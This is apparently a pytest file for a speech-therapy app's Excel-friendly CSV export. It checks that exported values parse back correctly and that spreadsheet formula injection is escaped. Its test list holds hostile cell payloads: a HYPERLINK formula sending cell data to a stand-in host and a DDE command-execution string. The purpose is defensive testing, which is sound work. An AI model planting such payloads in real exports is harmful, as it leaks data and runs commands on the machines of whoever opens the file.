"""CSV export of attempts: Excel-friendly format that parses back to the stored values."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import TYPE_CHECKING

from therapist_fixtures import add_patient_with_attempt

from therapy_app.audio.wavio import read_wav
from therapy_app.exports import CSV_HEADERS, export_attempts_csv
from therapy_app.exports.csv_export import escape_formula, format_cell
from therapy_app.storage import EXPORT_COLUMNS, SessionRepository

if TYPE_CHECKING:
    from therapist_fixtures import SeededHistory


def _read(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 byte-order mark"
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=";"))


def _number(text: str) -> float:
    return float(text.replace(",", "."))


def test_patient_export_parses_back(
    therapist_repo: SessionRepository, seeded_history: SeededHistory, tmp_path: Path
) -> None:
    path = tmp_path / "essais.csv"
    count = export_attempts_csv(therapist_repo, path, seeded_history.patient.id)
    rows = _read(path)
    expected = therapist_repo.history.export_rows(seeded_history.patient.id)
    assert count == len(rows) == len(expected) == len(seeded_history.attempt_ids)
    assert list(rows[0]) == list(CSV_HEADERS.values())
    assert b"\r\n" in path.read_bytes()
    for row, original in zip(rows, expected, strict=True):
        assert row["Patient"] == "Jeanne Dupont"
        assert int(row["N° essai"]) == original["attempt_id"]
        assert row["Transcription"] == original["transcript"]
        assert row["Cible"] == (original["target_text"] or "")
        assert row["Exercice"] in ("Répétition de phrases", "Parole libre")
        assert row["Réussite"] in ("0", "1", "")
        assert _number(row["Nombre de mots"]) == original["word_count"]
        if original["accuracy"] is not None:
            assert _number(row["Précision de la répétition"]) == original["accuracy"]
        assert abs(_number(row["Durée (s)"]) - original["duration_s"]) < 1e-9
    # The other patient's attempt stays out of this patient's file.
    assert all(row["Patient"] == "Jeanne Dupont" for row in rows)


def test_export_of_everyone_and_quoting(
    therapist_repo: SessionRepository, seeded_history: SeededHistory, tmp_path: Path
) -> None:
    first = seeded_history.attempt_ids[0]
    therapist_repo.attempts.edit_transcript(first, "transcript", 'le chat; dort "bien"', "claire")
    path = tmp_path / "tous.csv"
    export_attempts_csv(therapist_repo, path)
    rows = _read(path)
    assert {row["Patient"] for row in rows} == {"Jeanne Dupont", "Paul Martin"}
    edited = next(r for r in rows if int(r["N° essai"]) == seeded_history.attempt_ids[0])
    assert edited["Transcription"] == 'le chat; dort "bien"'
    assert edited["Transcription automatique d'origine"] == "chat dormir canapé"
    assert edited["Transcription corrigée"] == "1"


def test_cell_formats() -> None:
    assert format_cell("accuracy", 0.75) == "0,75"
    assert format_cell("success", True) == "1"
    assert format_cell("cue_level", None) == ""
    assert format_cell("kind", "completion") == "Complétion de phrases"
    assert len(format_cell("created_at", "2025-03-14T09:30:00.000000+00:00")) == 19
    assert len(CSV_HEADERS) == len(EXPORT_COLUMNS)


# ----- formula injection (issue 11, item 5) ---------------------------------------------

_HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"clic")',
    "+33 6 12 34 56 78",
    "-moi pas content",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def test_cells_a_spreadsheet_would_evaluate_are_escaped(
    therapist_repo: SessionRepository, speech_dir: Path, tmp_path: Path
) -> None:
    # Real rows through the repository: the name is typed on the profile
    # screen, transcripts come from speech recognition or the therapist.
    clip = read_wav(speech_dir / "word_01.wav")
    expected: dict[int, str] = {}
    for text in _HOSTILE:
        attempt = add_patient_with_attempt(
            therapist_repo,
            f"{text}x",
            clip,
            raw_transcript=text,
            target_text="pomme",
            target_score=-0.5,
        )
        expected[attempt] = text
    path = tmp_path / "hostile.csv"
    assert export_attempts_csv(therapist_repo, path) == len(_HOSTILE)
    rows = _read(path)
    for row in rows:
        text = expected[int(row["N° essai"])]
        assert row["Transcription"] == "'" + text
        # The repository strips the name; whatever is left must not be a formula.
        assert row["Patient"].startswith("'")
        assert row["Patient"][1:] == f"{text}x".strip()
        assert row["Cible"] == "pomme"
        assert _number(row["Score de la cible"]) == -0.5  # numbers stay numbers
    first_cells = [cell for row in rows for cell in row.values() if cell]
    assert not [c for c in first_cells if c[0] in "=+@\t\r" or c[0] == "-" and not _is_number(c)]


def _is_number(text: str) -> bool:
    try:
        _number(text)
    except ValueError:
        return False
    return True


def test_escape_formula_leaves_ordinary_text_alone() -> None:
    assert escape_formula("le chat dort") == "le chat dort"
    assert escape_formula("Jeanne-Marie") == "Jeanne-Marie"
    assert escape_formula("") == ""
    assert escape_formula("-") == "'-"
    assert format_cell("transcript", "=1+1") == "'=1+1"
    assert format_cell("word_count", -3) == "-3"
    assert format_cell("wer", -0.25) == "-0,25"
